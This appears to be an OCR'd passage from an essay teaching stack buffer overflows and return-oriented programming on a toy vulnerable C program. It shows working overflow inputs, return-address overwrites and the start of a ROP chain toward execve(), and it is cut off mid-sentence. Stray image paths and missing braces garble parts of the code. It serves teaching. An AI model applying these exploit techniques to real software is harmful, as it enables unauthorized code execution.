In the program below, for example, the control flow starts at the beginning of the function main(), and shortly afterwards, jumps to the code in the definition of hello(), and then -- after a couple more calls to strcpy() and printf(), a couple of functions from the standard libraries, string and stdio, respectively -- returns to the line immediately following our call to hello(), to informthe user that they have, indeed, been greeted.

/* pay no attention to this function, for now */
void weird(void) {
  printf("ph'nglui mglw'nafh Cthulhu R'lyeh wgah'nagl fhtagn\n");

void hello(char *name) {
  char buffer[10];
  strcpy(buffer, name);printf("Hello, %s!\n", buffer);

int main(int argc, char **argv) {
  if (argc < 2) {
    printf("Usage: %s <your name>\n", argv[0]);
    return 1;
  printf("This program is going to greet you.\n");
  printf("You have been greeted.\n");
  return 0;

Now, since function calls can be nested -- see the calls to strcpy() and printf() inside hello(), for instance -- our system of "bookmarks that tell us where to resume execution after running each function is naturally representable as a stack. Each call pushes a new "bookmark", or return address, to the top of the stack, and each return pops theaddress from the top of the stack, and tells the CPU to jump to that address by writing it to the CPU's "program counter". This ideal stack of addresses is what we call "the call stack". The call stack, in this sense, forms part of the tacit "theoretical" (in Peter Naur's sense of the term) grasp that programmers have of the control flow structures they're building. It's natural, and, usually, helpful to think of nested subroutines or functions as forming a "stack", since we must complete the function we most recently embarked upon before resuming the next one down -- from which we embarked.

And, indeed, compilers -- GCC, for example -- are guided by this very idea in their implementation of function calls. But with a crucial complication: in most implementations, the call stack is interleafed with the data stack, where the locally scoped variables used in each function are stored -- like the char buffer[10] variable, which belongs to hello()'s scope, in the above example.

stack frame

From the perspective of the unwary programmer, call stacks and local variable scopes are two distinct abstractions, with no direct means of interaction, beyond the mechanism of call-and-return that articulates them. (When we return from a function, we return not only to the address from which that function was called, but -- at least in most modern languages -- to the lexical environment of the caller.)

On the level of machine code, however, these abstractions have a way of leaking into one another, and, unless great care is taken to secure the system, become causally entangled with one another todisastrous effect.

Let's go back to our example, now, and compile it. On a Linux or Unix system, with the gcc compiler installed, you can do this like so:

$ gcc -fno-stack-protector \
    -zexecstack -g -O0 -m32 -static \
    hello.c -o hello

The command line options you see here tell gcc to omit a few modern security features (stack canaries and W⊕X, in particular), as well as a few compiler optimizations, so as to keep this illustration niceand simple. It also tells the compiler to include some helpful debugging information, and to target only the 32-bit subset of the x86_64 instruction set, which makes things a bit simpler still. We're also going to tell the compiler to statically link any required libraries, again, for the sake o simplicity. You can run it now, if you like:

$ ./hello Lucca
This program is going to greet you.
Hello, Lucca!
You have been greeted.

If your name happens to be ten characters long or longer, however, things will have gone very differently for you.

$ ./hello Luccaaaaaaaaaaaaaaaaaaaaaaa
This program is going to greet you.
Hello, Luccaaaaaaaaaaaaaaaaaaaaaaa!Segmentation fault (core dumped)

We only allocated 10 bytes to the buffer array in the hello() function, after all, and so the excess characters are written to stack memory beyond the bounds allocated to buffer -- spilling over into the call stack with which the data stack is interleafed. When it comes time to "return" from the function, hello(), the CPU fetches the return address -- the "bookmark" -- from the stack, and finds, instead: 0x61616161, which, non-coincidentally, is just the bytewise representation of "aaaa".

$ gdb ./hello
Reading symbols from ./hello...done.
(gdb) run Luccaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
Starting program: /home/oblivia/hello Luccaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
This program is going togreet you.
Hello, Luccaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!

Program received signal SIGSEGV, Segmentation fault.
0x61616161 in ?? ()
(gdb) print $eip
$1 = (void (*)()) 0x61616161
(gdb) info stack
#0  0x61616161 in ?? ()
#1  0x61616161 in ?? ()
#2  0x61616161 in ?? ()
#3  0xffffc900 in ?? ()
Backtrace stopped: previous frame inner to this frame (corrupt stack?)

In a certain sense, data and code are one and the same, and the fundamental problem of cybersecurity is drawing a line of demarcation between the two categories. The ideal state of affairs is one where the data that the program receives as input steers the program's execution, but only along meticulously designed pathways. The data, in this way, can be seen as "code" for a very limited state machine, such as the one shown below. Here, passing the empty string (denoted ε) as input sends us to the "Usage Instructions" state, while -- ideally -- passing a name asinput sends us to the "Greeting" state.


This state machine represents a tiny ontological level of its own, abstracted away from the general purpose computer that thrums below. But this abstraction springs a leak the moment we attempt to pass the application a name containing 10 or more characters. The "function" abstraction, which the programmer relied upon to construct the "Hello Machine" abstraction, is broken the moment the input data overwrites the return address pointer on the stack -- the exact structure of which the programmer may have given little thought. Its foundations in the "Structured Programming Machine" undermined, the ontological plane of the Hello Machine drops out from under us, and we are cast into what we call a "weird state" (illustrated below).


But this isn't the end of the story. The underlying machinery is still running, and this weird state opens onto a virtually boundless horizon of possibility. If we overwrite the return address with "aaaa" then, it's true, we won't have much to look forward to. But why not take advantage of the fact that the CPU is prepared to treat whatever it finds at that place on the stack as an address?

And, since we have allowed stack memory to be executable, like it was in the 90s, with the compiler option "-zexecstack", we can even include some machine code of our own as part of the "name" string, and, once we have determined its address, "return" to that. This is the substance of the classic buffer overflow attack strategy made famous by Aleph One's Smashing the Stack for Fun and Profit, in the 49th issue of Phrack.

smashing the stack

The Geometry of Innocent Slime on the Bone

It was in response tothis sort of attack that the security measure known as W⊕X ("write xor execute") was introduced. What W⊕X means is just this: that no region of memory should be flagged as being both writeable and executable (W⊕X = ~(W&X)). This would seem, on the surface, to be enough to forestall the confusion of data and code that's at the heart of every exploit. If code, after all, is just whatever the CPU can execute, then blocking the direct execution of input data would seem to be enough.


But this mitigation ultimately fails to prevent remote code execution, and it fails because it rests on an insufficiently general concept of code. The official instruction set architecture isn't the only abstract machine in town, after all. Blocking the execution of anything that could count as code would be absurd, since it would amount to declaring that a program must be entirely unresponsive to input -- what's an application, after all, other than a restricted finite automaton, programmed by user input? Could we then just devise a way of enforcing a monopoly of the intended state machine over the resources of the computer? This is the sort of thing that sounds simple enough, but which verges on the impossible in practice -- or even, more damningly, in theory. There is no general way of knowing just how many weird machines inhere in a given system, as a consequence of Rice's Theorem (the author waves her hands convincingly). It's certainly possible to prove that a specific program is unexploitable, but this is rarely a trivial question, and must in each casebe taken up anew.

A Tiny ROP Tutorial

Let's craft an example. First, just to keep us honest, let's recompile hello.c without the "-zexecstack" option, so that W⊕X is indeed in effect.

$ gcc -fno-stack-protector \
    -g -O0 -m32 -static \
    hello.c -o hello

If we like, we can use readelf.

$ readelf -l hello

Elf file type is EXEC (Executable file) Entry point 0x8049990 There are 8 program headers, starting at offset 52Program Headers:
  Type           Offset   VirtAddr   PhysAddr   FileSiz MemSiz  Flg Align
  LOAD           0x000000 0x08048000 0x08048000 0x001e8 0x001e8 R   0x1000
  LOAD           0x001000 0x08049000 0x08049000 0x642bc 0x642bc R E 0x1000
  LOAD           0x066000 0x080ae000 0x080ae000 0x2a56d 0x2a56d R   0x1000
  LOAD           0x0906a0 0x080d96a0 0x080d96a0 0x02c78 0x03990 RW  0x1000
  NOTE           0x000134 0x08048134 0x08048134 0x00044 0x00044 R   0x4
  TLS            0x0906a0 0x080d96a0 0x080d96a0 0x00010 0x00030 R   0x4
  GNU_STACK      0x000000 0x00000000 0x00000000 0x00000 0x00000 RW  0x10
  GNU_RELRO      0x0906a0 0x080d96a0 0x080d96a0 0x01960 0x01960 R   0x1

You'll have noticed, in our example, that there is no obvious way of reaching the function named weird(). For all intents and purposes, it looks like dead code. But (since we disabled compiler optimizations) it's still there, and has an address:

$ nm hello | grep weird
08049b05 T weird

(Here, we dumped the hello binary's namespace with nm and searched for the name "weird" with grep.)

With a bit of trial and error (or patience and calculation), we can determine the exact offset at which to place this address (in raw, little-endian format, which in the bash shell can be achieved by putting $'\x05\x9b\x04\x08') so that when the CPU goes to fetch the return address of the call to hello() from the stack, it finds 0x0849b05 instead, and continues on its way, never the wiser.

$ ./hello 1234567890123456789012$'\x05\x9b\x04\x08'
This program is going to greet you.Hello, 1234567890123456789012!
ph'nglui mglw'nafh Cthulhu R'lyeh wgah'nagl fhtagn
Segmentation fault (core dumped)

The "Segmentation fault" at the end, here, only comes about because, when the CPU goes to fetch the return address from the stack upon reaching the end of weird(), it finds nothing that points to executable code. We can remedy this by puttinganother address at the end of our "name". For now, let's just put the address of weird() again, followed by the address of exit(), which nm shows to lie at 0x0804fda0, so that we can terminate the process without incurring a segfault.

$ ./hello 1234567890123456789012$'\x05\x9b\x04\x08'$'\x05\x9b\x04\x08'\
This program is going to greet you.
Hello, 1234567890123456789012!
ph'nglui mglw'nafh Cthulhu R'lyeh wgah'nagl fhtagn
ph'nglui mglw'nafh Cthulhu R'lyeh wgah'nagl fhtagn

We can, in fact, put any sequence of addresses that we like. We can call other functions, and even pass arguments to them -- all we have to do is place them on the stack, which we already control. By finding the address of the string "Cthulu R'lyeh wgah'nagl fhtagn!", for example, and the address of the hello() function, we can cause our program to call hello twice, and on the second pass greet Cthulhu himself.

$ ./hello 1234567890123456789012$'\x30\x9b\x04\x08'aaaa$'\x1b\xe0\x0a\x08'This program is going to greet you.
Hello, 12345678901234567890120aaaa
Hello, Cthulhu R'lyeh wgah'nagl fhtagn!
Segmentation fault (core dumped)

There's no reason, in fact, to limit ourselves to function addresses, either. So long as we wish to maintain control of the flow of execution, we can use any address that will eventually direct the CPU to fetch another address from the stack, which we control. Functions, by definition, always end with a RET instruction, which instructs the CPU to pop an address off the stack and jump to it immediately, serves this purpose admirably, but they're only a special case.

The more general concept is what we call a "gadget", which here means any sequence of instructions whose execution ends with a RET. Our hello binary has over 7000 of these sequences. Together, they can be thought of as a new, emergent instruction set for a spontaneous virtual machine -- a "weird machine", which we program using a technique called "Return-Oriented Programming", or ROP.

Suppose we want to build a program for the weird return-oriented machine that subsists in the hello binary, one which, when executed, launches thebasic calculator application, bc, from the same working directory. To do this, we're going to need to prepare and execute the execve() system call, which tells the Linux kernel to launch a new program. execve() expects to find itsarguments -- the path of the program being launched, the command line parameters for that program, and its environment variables -- in the EBX, ECX and EDX machine registers, respectively. We'll also need to set the EAX register to the system call number for execve(), which happens to be 11. Once everything is in position, we can then jump to an interrupt 0x80 instruction, to enact the call.

And of course, we can't do this the easy way, using individual x86 assembly instructions. We have to descend into the thicket of mutually interfering gadgets -- the instruction set of a wild, virtual machine -- that happen to subsist in hello, and find what we need there.

First, let's zero out the EDX register, so that we don't need to build an environment variable array. Here's a gadget that'll do the trick, in addition to zeroing out EAX, which will make it easier to then set to the proper system call number. It'll also populate a few registers from the stack, but we don't need to worry about those yet.

0x0805cf23 :
  xor edx, edx
  pop ebx
  mov eax, edx
  pop esi
  pop edi
  pop ebp

Now we need to pad the stack with the data that will be popped into EBX, ESI, EDI, and EBP.We don't really care what finds its way into those registers at this point, so we'll just use sixteen bytes of meaningless padding. The string

